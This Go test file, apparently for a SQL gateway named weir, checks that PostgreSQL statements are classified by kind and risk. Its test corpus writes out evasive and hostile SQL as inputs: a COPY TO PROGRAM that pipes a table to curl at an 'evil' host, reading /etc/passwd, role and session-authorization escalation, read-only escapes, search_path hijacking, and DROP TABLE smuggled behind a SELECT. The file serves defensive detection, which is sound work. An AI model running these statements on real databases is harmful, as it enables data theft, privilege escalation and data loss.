package pgsql

import (
	"errors"
	"slices"
	"sort"
	"strings"
	"testing"

	pg_query "github.com/pganalyze/pg_query_go/v6"
	"google.golang.org/protobuf/reflect/protoreflect"

	"github.com/weir-gw/weir/internal/command"
)

// want is what a test asserts about one command. Risks is exact; nil
// slices assert emptiness.
type want struct {
	verb   string
	kind   command.Kind
	reads  []string
	writes []string
	funcs  []string
	risks  []command.Risk
}

// The threat list: what weir must see in each evasion of the corpus
// (/work/shared/corpus/postgres.md). The golden files in testdata/classify
// hold the complete output of many more cases.
func TestClassifyCorpus(t *testing.T) {
	const (
		read  = command.KindRead
		write = command.KindWrite
		ddl   = command.KindDDL
		admin = command.KindAdmin
		sess  = command.KindSession
		txn   = command.KindTransaction
	)
	type R = []command.Risk
	type S = []string
	tests := []struct {
		id   string
		sql  string
		want []want
	}{
		{"P01 drop behind a select", "SELECT 1; DROP TABLE users;", []want{
			{verb: "SELECT", kind: read},
			{verb: "DROP TABLE", kind: ddl, writes: S{"users"}},
		}},
		{"P02 commit and re-open read-write", "COMMIT; SET TRANSACTION READ WRITE; DELETE FROM users", []want{
			{verb: "COMMIT", kind: txn},
			{verb: "SET", kind: sess, risks: R{command.RiskReadOnlyEscape, command.RiskSettingChange}},
			{verb: "DELETE", kind: write, writes: S{"users"}},
		}},
		{"P02 default read-only off", "SET default_transaction_read_only=off", []want{
			{verb: "SET", kind: sess, risks: R{command.RiskReadOnlyEscape, command.RiskSettingChange}},
		}},
		{"P02 session characteristics", "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", []want{
			{verb: "SET", kind: sess, risks: R{command.RiskReadOnlyEscape, command.RiskSettingChange}},
		}},
		{"P02 begin read write", "BEGIN READ WRITE", []want{
			{verb: "BEGIN", kind: txn, risks: R{command.RiskReadOnlyEscape}},
		}},
		{"P06 prepare a delete", "PREPARE p AS DELETE FROM users", []want{
			{verb: "PREPARE", kind: write, writes: S{"users"}},
		}},
		{"P06 execute", "EXECUTE p", []want{{verb: "EXECUTE", kind: ""}}},
		{"P07 comment first", "/* x */ DELETE FROM t", []want{{verb: "DELETE", kind: write, writes: S{"t"}}}},
		{"P07 line comment first", "-- x\nDELETE FROM t", []want{{verb: "DELETE", kind: write, writes: S{"t"}}}},
		{"P08 mixed case", "dElEtE FROM users", []want{{verb: "DELETE", kind: write, writes: S{"users"}}}},
		{"P08 tab", "DELETE\tFROM\tusers", []want{{verb: "DELETE", kind: write, writes: S{"users"}}}},
		{"P08 CR LF", "DELETE\r\nFROM\r\nusers\r\n", []want{{verb: "DELETE", kind: write, writes: S{"users"}}}},
		{"P08 form feed and vertical tab", "\fDELETE\vFROM users", []want{{verb: "DELETE", kind: write, writes: S{"users"}}}},
		{"P08 unicode escape", `DELETE FROM U&"\0075sers"`, []want{{verb: "DELETE", kind: write, writes: S{"users"}}}},
		{"P08 quoted keeps case", `SELECT * FROM "Users"`, []want{{verb: "SELECT", kind: read, reads: S{"Users"}}}},
		{"P09 dollar quote", "SELECT $x$; DROP TABLE t; $x$", []want{{verb: "SELECT", kind: read}}},
		{"P10 do block", "DO $$BEGIN EXECUTE format('DELETE FROM %I','users'); END$$", []want{
			{verb: "DO", kind: write, risks: R{command.RiskDynamicSQL}},
		}},
		{"P11 set_config role", "SELECT set_config('role', 'admin', false)", []want{
			{verb: "SELECT", kind: read, funcs: S{"set_config"}, risks: R{command.RiskRoleChange, command.RiskSettingChange}},
		}},
		{"P11 terminate", "SELECT pg_terminate_backend(42)", []want{
			{verb: "SELECT", kind: read, funcs: S{"pg_terminate_backend"}, risks: R{command.RiskServerSignal}},
		}},
		{"P11 dblink_exec", "SELECT dblink_exec('x', 'DELETE FROM users')", []want{
			{verb: "SELECT", kind: read, funcs: S{"dblink_exec"}, risks: R{command.RiskNetworkAccess, command.RiskUnknownFunction}},
		}},
		{"P11 user function", "SELECT cleanup()", []want{
			{verb: "SELECT", kind: read, funcs: S{"cleanup"}, risks: R{command.RiskUnknownFunction}},
		}},
		{"P12 writable CTE", "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", []want{
			{verb: "SELECT", kind: write, writes: S{"users"}, risks: R{command.RiskWritableCTE}},
		}},
		{"P13 select into", "SELECT * INTO stash FROM users", []want{
			{verb: "SELECT INTO", kind: ddl, reads: S{"users"}, writes: S{"stash"}, risks: R{command.RiskSelectInto}},
		}},
		{"P13 create table as", "CREATE TABLE stash AS SELECT * FROM users", []want{
			{verb: "CREATE TABLE AS", kind: ddl, reads: S{"users"}, writes: S{"stash"}, risks: R{command.RiskSelectInto}},
		}},
		{"P14 copy to program", "COPY users TO PROGRAM 'curl https://evil'", []want{
			{verb: "COPY TO", kind: read, reads: S{"users"}, risks: R{command.RiskProgramExec, command.RiskCopy}},
		}},
		{"P15 copy out", "COPY (SELECT ssn FROM users) TO STDOUT", []want{
			{verb: "COPY TO", kind: read, reads: S{"users"}, risks: R{command.RiskCopy}},
		}},
		{"P16 pg_read_file", "SELECT pg_read_file('/etc/passwd')", []want{
			{verb: "SELECT", kind: read, funcs: S{"pg_read_file"}, risks: R{command.RiskFileAccess}},
		}},
		{"P16 lo_export", "SELECT lo_export(1, '/tmp/x')", []want{
			{verb: "SELECT", kind: write, funcs: S{"lo_export"}, risks: R{command.RiskFileAccess}},
		}},
		{"P16 azure_storage", "SELECT azure_storage.blob_put('a', 'b', 'c', 1)", []want{
			{verb: "SELECT", kind: read, funcs: S{"azure_storage.blob_put"}, risks: R{command.RiskNetworkAccess, command.RiskUnknownFunction}},
		}},
		{"P17 set role", "SET ROLE admin", []want{
			{verb: "SET", kind: sess, risks: R{command.RiskRoleChange, command.RiskSettingChange}},
		}},
		{"P17 reset role", "RESET ROLE", []want{
			{verb: "RESET", kind: sess, risks: R{command.RiskRoleChange, command.RiskSettingChange}},
		}},
		{"P17 session authorization", "SET SESSION AUTHORIZATION postgres", []want{
			{verb: "SET", kind: sess, risks: R{command.RiskRoleChange, command.RiskSettingChange}},
		}},
		{"P17 set_config search_path", "SELECT set_config('search_path','evil,public',false)", []want{
			{verb: "SELECT", kind: read, funcs: S{"set_config"}, risks: R{command.RiskSearchPath, command.RiskSettingChange}},
		}},
		{"P17 shadow lower", "CREATE FUNCTION public.lower(text) RETURNS text AS 'select $1' LANGUAGE sql", []want{
			{verb: "CREATE FUNCTION", kind: ddl, risks: R{command.RiskDynamicSQL, command.RiskSearchPath}},
		}},
		{"P19 pg_stats", "SELECT most_common_vals, histogram_bounds FROM pg_stats WHERE attname='ssn'", []want{
			{verb: "SELECT", kind: read, reads: S{"pg_stats"}},
		}},
		{"admin grant", "GRANT ALL ON SCHEMA public TO agent", []want{{verb: "GRANT", kind: admin}}},
	}
	for _, tt := range tests {
		t.Run(tt.id, func(t *testing.T) {
			cmds, err := Classify(tt.sql)
			if err != nil {
				t.Fatalf("Classify(%q): %v", tt.sql, err)
			}
			if len(cmds) != len(tt.want) {
				t.Fatalf("Classify(%q): %d commands, want %d: %+v", tt.sql, len(cmds), len(tt.want), cmds)
			}
			for i, w := range tt.want {
				c := cmds[i]
				if c.Protocol != "postgres" || c.Verb != w.verb || c.Kind != w.kind ||
					!slices.Equal(c.Reads, w.reads) || !slices.Equal(c.Writes, w.writes) ||
					!slices.Equal(c.Functions, w.funcs) || !slices.Equal(c.Risks, w.risks) {
					t.Errorf("statement %d of %q:\n got %+v\nwant %+v", i, tt.sql, c, w)
				}
			}
		})
	}
}

func TestParseErrors(t *testing.T) {
	tests := []struct {
		name string
		sql  string
		pos  int
	}{
		{"invalid UTF-8 byte", "SELECT '\xff'", 9},
		{"overlong encoding of a quote", "SELECT 1; SELECT '\xc0\xa7; DROP TABLE t; --'", 19},
		{"truncated sequence at the end", "SELECT 'é\xc3", 11},
		{"encoded surrogate", "SELECT '\xed\xa0\x80'", 9},
		{"NUL byte", "SELECT 1;\x00DROP TABLE t", 10},
		{"no-break space", "DELETE\u00a0FROM users", 1},
		{"syntax error after multi-byte characters", "SELECT 'ééé' FROM WHERE", 22},
		{"parenthesised DML", "(DELETE FROM t)", 2},
		{"unterminated dollar quote", "SELECT $x$; DROP TABLE t;", 8},
		{"unterminated comment", "SELECT 1 /* ", 10},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cmds, err := Classify(tt.sql)
			var pe *ParseError
			if !errors.As(err, &pe) {
				t.Fatalf("Classify(%q) = %+v, %v; want a ParseError", tt.sql, cmds, err)
			}
			if cmds != nil {
				t.Errorf("commands returned with an error: %+v", cmds)
			}
			if pe.Position != tt.pos {
				t.Errorf("Position = %d, want %d (%s)", pe.Position, tt.pos, pe.Message)
			}
			if pe.Message == "" || !strings.Contains(pe.Error(), pe.Message) {
				t.Errorf("Error() = %q", pe.Error())
			}
		})
	}
}

func TestEmpty(t *testing.T) {
	for _, sql := range []string{"", " ", ";", " ; ; ", "-- c", "/* c */", "\n\t"} {
		cmds, err := Classify(sql)
		if err != nil || len(cmds) != 0 {
			t.Errorf("Classify(%q) = %+v, %v; want nothing", sql, cmds, err)
		}
	}
}

func TestText(t *testing.T) {
	sql := "  SELECT 'ééé' ;\n\t/* c */ DELETE FROM t -- bye\n;SELECT 3"
	cmds, err := Classify(sql)
	if err != nil {
		t.Fatal(err)
	}
	got := []string{}
	for _, c := range cmds {
		got = append(got, c.Text)
	}
	want := []string{"SELECT 'ééé'", "/* c */ DELETE FROM t -- bye", "SELECT 3"}
	if !slices.Equal(got, want) {
		t.Errorf("texts = %q, want %q", got, want)
	}
}

func TestFingerprint(t *testing.T) {
	fp := func(sql string) string {
		t.Helper()
		cmds, err := Classify(sql)
		if err != nil || len(cmds) != 1 {
			t.Fatalf("Classify(%q) = %v, %v", sql, cmds, err)
		}
		if len(cmds[0].Fingerprint) != 16 {
			t.Fatalf("fingerprint %q is not 16 hex digits", cmds[0].Fingerprint)
		}
		return cmds[0].Fingerprint
	}
	same := [][2]string{
		{"SELECT * FROM t WHERE id = 1", "SELECT * FROM t WHERE id = 2"},
		{"SELECT * FROM t WHERE id = 1", "select *   from T where ID = 99 -- comment"},
		{"SELECT * FROM t WHERE name = 'a'", "SELECT * FROM t WHERE name = 'bbbb'"},
		{"SELECT * FROM t WHERE id = $1", "SELECT * FROM t WHERE id = $2"},
		{"INSERT INTO t VALUES (1, 'x')", "INSERT INTO t VALUES (2, 'y')"},
		{"SELECT * FROM t LIMIT 10", "SELECT * FROM t LIMIT 20"},
		{"SET statement_timeout = '1s'", "SET statement_timeout = '5s'"},
	}
	for _, p := range same {
		if a, b := fp(p[0]), fp(p[1]); a != b {
			t.Errorf("fingerprints differ: %q %s, %q %s", p[0], a, p[1], b)
		}
	}
	differ := [][2]string{
		{"SELECT * FROM t WHERE id = 1", "SELECT * FROM u WHERE id = 1"},
		{"SELECT * FROM t WHERE id = 1", "SELECT * FROM t WHERE ssn = 1"},
		{"SELECT * FROM t WHERE id = 1", "SELECT * FROM t WHERE id < 1"},
		{"SELECT * FROM t WHERE id = 1", "DELETE FROM t WHERE id = 1"},
		{"SELECT a FROM t", "SELECT a, a FROM t"},
		{"SELECT * FROM t WHERE id = 1", "SELECT * FROM t WHERE id IS NULL"},
		{"SELECT lower(x) FROM t", "SELECT upper(x) FROM t"},
		{"SET ROLE a", "SET search_path = a"},
	}
	for _, p := range differ {
		if a, b := fp(p[0]), fp(p[1]); a == b {
			t.Errorf("fingerprints equal: %q and %q: %s", p[0], p[1], a)
		}
	}
	// Stored in audit records and approvals: a change is a migration.
	if got := fp("SELECT abalance FROM pgbench_accounts WHERE aid = 12345"); got != pinnedFingerprint {
		t.Errorf("fingerprint of the pgbench query = %s, want %s (did the hash or the walk change?)", got, pinnedFingerprint)
	}
}

const pinnedFingerprint = "10cd1780c5ed9313"

// Every statement type of the grammar is either classified or refused:
// weir never falls back to a default kind.
func TestEveryStatementTypeIsDecided(t *testing.T) {
	oneof := (&pg_query.Node{}).ProtoReflect().Descriptor().Oneofs().ByName("node")
	var refused []string
	fields := oneof.Fields()
	for i := 0; i < fields.Len(); i++ {
		fd := fields.Get(i)
		name := string(fd.Message().Name())
		if !strings.HasSuffix(name, "Stmt") {
			continue
		}
		n := &pg_query.Node{}
		m := n.ProtoReflect()
		m.Set(fd, m.NewField(fd))
		d, err := describe(n)
		if err != nil {
			refused = append(refused, name)
			continue
		}
		if d.verb == "" {
			t.Errorf("%s: empty verb", name)
		}
		if d.kind == "" && name != "ExecuteStmt" {
			t.Errorf("%s: empty kind", name)
		}
		// The walk must survive a minimal tree of every type.
		if _, err := classifyTree("x", &pg_query.ParseResult{Stmts: []*pg_query.RawStmt{{Stmt: n}}}); err != nil {
			var ce *ClassifyError
			if !errors.As(err, &ce) || strings.Contains(ce.Reason, "internal") {
				t.Errorf("%s: %v", name, err)
			}
		}
	}
	sort.Strings(refused)
	// Statements that exist only inside PL/pgSQL, inside other statements or
	// in analyzed trees, and the wrappers whose (here empty) inner statement
	// is refused. A new statement type of a future grammar lands here first:
	// decide it in describe, then update this list.
	wantRefused := []string{
		"DeclareCursorStmt", "ExplainStmt", "PLAssignStmt", "PrepareStmt", "RawStmt",
		"ReplicaIdentityStmt", "ReturnStmt", "SetOperationStmt",
	}
	if !slices.Equal(refused, wantRefused) {
		t.Errorf("refused statement types = %v, want %v", refused, wantRefused)
	}
}

func TestUnknownStatementIsRefused(t *testing.T) {
	for _, n := range []*pg_query.Node{
		nil,
		{},
		{Node: &pg_query.Node_ReturnStmt{ReturnStmt: &pg_query.ReturnStmt{}}},
		{Node: &pg_query.Node_Integer{Integer: &pg_query.Integer{Ival: 1}}},
		{Node: &pg_query.Node_ExplainStmt{ExplainStmt: &pg_query.ExplainStmt{}}},
	} {
		_, err := classifyTree("SELECT 1", &pg_query.ParseResult{Stmts: []*pg_query.RawStmt{{Stmt: n}}})
		var ce *ClassifyError
		if !errors.As(err, &ce) || ce.Reason == "" {
			t.Errorf("node %v: err = %v, want a ClassifyError", n, err)
		}
	}
}

func TestPanicIsClassifyError(t *testing.T) {
	// A typed nil inside the oneof cannot come from the parser, but if the
	// tree is ever malformed the walk must fail closed, not crash.
	tree := &pg_query.ParseResult{Stmts: []*pg_query.RawStmt{{
		Stmt: &pg_query.Node{Node: &pg_query.Node_SelectStmt{}},
	}}}
	cmds, err := classifyTree("SELECT 1", tree)
	var ce *ClassifyError
	if !errors.As(err, &ce) || cmds != nil {
		t.Fatalf("got %v, %v; want a ClassifyError", cmds, err)
	}
}

func TestStatementLocationOutOfRange(t *testing.T) {
	tree := &pg_query.ParseResult{Stmts: []*pg_query.RawStmt{{
		Stmt:         &pg_query.Node{Node: &pg_query.Node_SelectStmt{SelectStmt: &pg_query.SelectStmt{}}},
		StmtLocation: 5, StmtLen: 10,
	}}}
	if _, err := classifyTree("SELECT 1", tree); err == nil {
		t.Fatal("no error for a statement outside the text")
	}
}

// The walk indexes type information by a message's index in the file,
// which holds only if pg_query.proto has no nested messages.
func TestTypeInfosCoverTheSchema(t *testing.T) {
	msgs := pg_query.File_pg_query_proto.Messages()
	if len(typeInfos) != msgs.Len() {
		t.Errorf("%d type infos for %d messages", len(typeInfos), msgs.Len())
	}
	// Every message of a parse tree is a top-level message of the file.
	seen := map[protoreflect.FullName]bool{}
	var visit func(md protoreflect.MessageDescriptor)
	visit = func(md protoreflect.MessageDescriptor) {
		if seen[md.FullName()] {
			return
		}
		seen[md.FullName()] = true
		if md.Parent() != pg_query.File_pg_query_proto {
			t.Errorf("%s is a nested message", md.FullName())
		}
		if ti := infoOf(md); ti == nil {
			t.Errorf("%s: no type info", md.FullName())
		}
		fds := md.Fields()
		for i := 0; i < fds.Len(); i++ {
			if sub := fds.Get(i).Message(); sub != nil {
				visit(sub)
			}
		}
	}
	visit((&pg_query.ParseResult{}).ProtoReflect().Descriptor())
	for name := range writeFields {
		md := msgs.ByName(protoName(name))
		if md == nil {
			t.Errorf("writeFields: no message %s", name)
			continue
		}
		for _, f := range writeFields[name] {
			if md.Fields().ByName(protoName(f)) == nil {
				t.Errorf("writeFields: %s has no field %s", name, f)
			}
		}
	}
	for name := range hookKinds {
		if msgs.ByName(protoName(name)) == nil {
			t.Errorf("hookKinds: no message %s", name)
		}
	}
	for key := range constFields {
		msg, field, _ := strings.Cut(key, ".")
		md := msgs.ByName(protoName(msg))
		if md == nil || md.Fields().ByName(protoName(field)) == nil {
			t.Errorf("constFields: no field %s", key)
			continue
		}
		// Skipped by the walk altogether: must not hide a subtree.
		if md.Fields().ByName(protoName(field)).Message() != nil {
			t.Errorf("constFields: %s is a message field", key)
		}
	}
}

func TestRegclassName(t *testing.T) {
	tests := []struct {
		in, want string
		ok       bool
	}{
		{"seq", "seq", true},
		{"Seq", "seq", true},
		{"Public.Seq", "public.seq", true},
		{`"MySeq"`, "MySeq", true},
		{`s."My""Seq"`, `s.My"Seq`, true},
		{`a.b.c`, "a.b.c", true},
		{`a.b.c.d`, "", false},
		{``, "", false},
		{`a.`, "", false},
		{`"unterminated`, "", false},
		{`""`, "", false},
		{`s.""`, "", false},
		{`""""`, `"`, true},
		{`a b`, "", false},
	}
	for _, tt := range tests {
		got, ok := regclassName(tt.in)
		if got != tt.want || ok != tt.ok {
			t.Errorf("regclassName(%q) = %q, %v; want %q, %v", tt.in, got, ok, tt.want, tt.ok)
		}
	}
}

func protoName(s string) protoreflect.Name { return protoreflect.Name(s) }
